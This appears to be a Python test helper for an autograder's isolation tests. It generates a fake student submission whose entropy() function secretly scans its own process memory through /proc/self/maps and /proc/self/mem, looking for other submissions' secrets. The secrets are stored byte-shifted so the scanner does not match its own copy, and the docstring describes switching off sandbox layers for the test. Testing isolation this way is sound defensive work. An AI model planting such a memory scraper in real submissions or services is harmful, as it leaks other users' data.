"""A student file that reads every readable region of its own worker's memory and reports which secrets it found.

The attack of issue 21: a worker is a copy of the process that forked it, freed memory included, so if that
process ever held another submission's reply, ``/proc/self/mem`` (or ``ctypes.string_at``) finds it. The file
reads ``/proc/self/maps`` and then every readable region through ``/proc/self/mem``, 1 MiB at a time, and
prints ``{"found": [...], "regions": N, "bytes": N}`` on its first call.

The secrets are never held in plain form by the scanner, or it would find its own copy: each is stored with
every byte plus one (mod 256), and each chunk of memory is translated the same way before the search. A
translated chunk holds a secret's stored form only where memory held the secret itself; the stored forms
and the translated chunks, when scanned in turn, turn into other bytes (plus two, plus three...).

It needs ``/proc/self`` (Landlock refuses it) and ``open`` of it (so does the audit hook): the tests switch
those two layers off with ``GRADER_TEST_DISABLE_LAYERS``. Memory is the same with them on; an attacker under
Landlock finds its regions by other means (addresses of its own objects through ``id()``), so this is the
stronger attack.
"""

from __future__ import annotations

import struct

SHIFT = bytes((i + 1) % 256 for i in range(256))


def hidden(secret: bytes) -> bytes:
    return secret.translate(SHIFT)


def float_forms(value: float) -> list[bytes]:
    """How a float returned by student code sits in memory: its 8 bytes, and its text in a JSON reply."""
    return [struct.pack("<d", value), repr(value).encode()]


def scanner(needles: dict[str, bytes], own: str, functions: dict[str, str] | None = None) -> str:
    """The source of ``entropy.py`` (and any ``functions``: name -> return expression) that scans memory.

    ``own`` is a marker kept in plain form in the file: the scan must find it (its own source is in memory),
    which shows the scan reads the heap."""
    stored = {name: hidden(secret) for name, secret in needles.items()}
    stored["own"] = hidden(own.encode())
    extra = "".join(f"\n\ndef {name}(*args):\n    return {value}\n" for name, value in (functions or {}).items())
    return f'''import json, os

OWN = {own!r}
NEEDLES = {stored!r}
TABLE = bytes((i + 1) % 256 for i in range(256))
_done = []


def _scan():
    found = set()
    with open("/proc/self/maps") as fh:
        regions = fh.read().splitlines()
    mem = os.open("/proc/self/mem", os.O_RDONLY)
    count = size = 0
    for line in regions:
        parts = line.split()
        name = parts[5] if len(parts) > 5 else ""
        if parts[1][0] != "r" or name in ("[vvar]", "[vvar_vclock]", "[vsyscall]"):
            continue
        start, end = (int(x, 16) for x in parts[0].split("-"))
        count += 1
        pos, tail = start, b""
        while pos < end:
            try:
                data = os.pread(mem, min(1 << 20, end - pos), pos)
            except OSError:
                break
            if not data:
                break
            chunk = (tail + data).translate(TABLE)
            for key, needle in NEEDLES.items():
                if needle in chunk:
                    found.add(key)
            tail = data[-63:]
            pos += len(data)
            size += len(data)
    os.close(mem)
    return {{"found": sorted(found), "regions": count, "bytes": size}}


def entropy(probs):
    if not _done:
        _done.append(1)
        print(json.dumps(_scan()))
    return 0.0


def most_uncertain(distributions):
    return 0
{extra}'''
